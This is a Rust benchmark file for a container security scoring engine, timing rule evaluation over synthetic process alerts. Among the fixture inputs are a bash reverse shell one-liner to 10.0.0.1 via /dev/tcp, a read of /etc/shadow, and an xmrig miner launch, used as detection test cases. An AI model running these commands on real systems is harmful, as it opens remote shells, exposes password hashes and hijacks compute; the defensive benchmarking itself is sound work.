//! Rule evaluation throughput on the default pack.
//!
//! `cargo bench -p kestrel-scoring --bench rules`; numbers in
//! `docs/benchmarks/scoring.md`.
//!
//! Two groups: `rules` measures wall time (criterion's default), and
//! `rules_cpu` measures the benchmark thread's own CPU time
//! (`CLOCK_THREAD_CPUTIME_ID`), which is the per-core cost even on a shared,
//! loaded machine where wall time also counts time spent preempted.
#![allow(missing_docs)]

use std::hint::black_box;
use std::net::{IpAddr, Ipv4Addr};

use criterion::measurement::Measurement;
#[path = "../../../benches/thread_cpu.rs"]
mod thread_cpu;
use criterion::{criterion_group, criterion_main, BenchmarkGroup, Criterion, Throughput};
use kestrel_scoring::{
    Arguments, CandidateAlert, Direction, FileAccess, PeerAddress, ProcessAncestor, Protocol,
    RuleSet, Signal,
};
use thread_cpu::ThreadCpuTime;

fn candidate(exe: &str, argv: &[&str], signals: Vec<Signal>) -> CandidateAlert {
    CandidateAlert {
        namespace: "shop".into(),
        workload: "Deployment/webapp".into(),
        pod: "webapp-5d9c7b7f6-x2x7q".into(),
        container_id: "containerd://0123456789abcdef".into(),
        node: "node-1".into(),
        image: "registry.example/webapp:v1".into(),
        pid: 4242,
        exe: exe.into(),
        args: Arguments::new(argv.iter().copied(), ""),
        chain: vec![
            ProcessAncestor::new("/bin/bash", ["bash"]),
            ProcessAncestor::new("/usr/bin/java", ["java", "-jar", "app.jar"]),
            ProcessAncestor::new("/sbin/tini", ["tini", "--"]),
        ],
        signals,
        observed_ns: 1_700_000_000_000_000_000,
        workload_replicas: Some(10),
        workload_rollout_ns: None,
        shape: None,
    }
}

/// A mix like production: mostly benign anomalies, some rule hits.
fn mix() -> Vec<CandidateAlert> {
    vec![
        candidate(
            "/usr/bin/java",
            &[
                "java",
                "-Xmx512m",
                "-jar",
                "/app/app.jar",
                "--server.port=8080",
                "--timestamp=1700000000",
            ],
            vec![Signal::UnusualArguments {
                best_similarity: 0.71,
                nearest_exemplar: None,
                difference: None,
            }],
        ),
        candidate(
            "/usr/bin/curl",
            &["curl", "-fsS", "http://localhost:8080/healthz"],
            vec![Signal::UnknownProcess],
        ),
        candidate(
            "/usr/bin/python3",
            &["python3", "/app/manage.py", "migrate", "--noinput"],
            vec![Signal::UnknownFile {
                path: "/app/data/cache.db".into(),
                access: FileAccess::Write,
                raw_path: None,
            }],
        ),
        candidate(
            "/usr/sbin/nginx",
            &["nginx", "-g", "daemon off;"],
            vec![Signal::UnknownPeer {
                addr: PeerAddress::Ip(IpAddr::V4(Ipv4Addr::new(10, 1, 2, 3))),
                port: 5432,
                proto: Protocol::Tcp,
                direction: Direction::Outbound,
            }],
        ),
        candidate(
            "/tmp/xmrig",
            &["./xmrig", "-o", "pool.minexmr.com"],
            vec![Signal::UnknownProcess],
        ),
        candidate(
            "/bin/bash",
            &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"],
            vec![Signal::UnknownProcess],
        ),
        candidate(
            "/bin/cat",
            &["cat", "/etc/shadow"],
            vec![Signal::UnknownFile {
                path: "/etc/shadow".into(),
                access: FileAccess::Read,
                raw_path: None,
            }],
        ),
        candidate(
            "/usr/bin/node",
            &["node", "/srv/index.js"],
            vec![Signal::UnknownProcess],
        ),
    ]
}

fn bench_rules(c: &mut Criterion) {
    let mut g = c.benchmark_group("rules");
    cases(&mut g);
    g.finish();
}

fn bench_rules_cpu(c: &mut Criterion<ThreadCpuTime>) {
    let mut g = c.benchmark_group("rules_cpu");
    cases(&mut g);
    g.finish();
}

fn cases<M: Measurement>(g: &mut BenchmarkGroup<'_, M>) {
    let set = match RuleSet::default_pack() {
        Ok(s) => s,
        Err(e) => panic!("default pack: {e}"),
    };
    let cands = mix();
    g.throughput(Throughput::Elements(cands.len() as u64));
    g.bench_function("default_pack_mixed_8", |b| {
        b.iter(|| {
            let mut hits = 0usize;
            for cand in &cands {
                hits += set.evaluate(black_box(cand)).is_hit() as usize;
            }
            hits
        })
    });
    g.throughput(Throughput::Elements(1));
    g.bench_function("default_pack_benign_java", |b| {
        b.iter(|| set.evaluate(black_box(&cands[0])).is_hit())
    });
    g.bench_function("default_pack_seed_xmrig", |b| {
        b.iter(|| set.evaluate(black_box(&cands[4])).score())
    });
}

criterion_group!(benches, bench_rules);
criterion_group! {
    name = benches_cpu;
    config = Criterion::default().with_measurement(ThreadCpuTime);
    targets = bench_rules_cpu
}
criterion_main!(benches, benches_cpu);
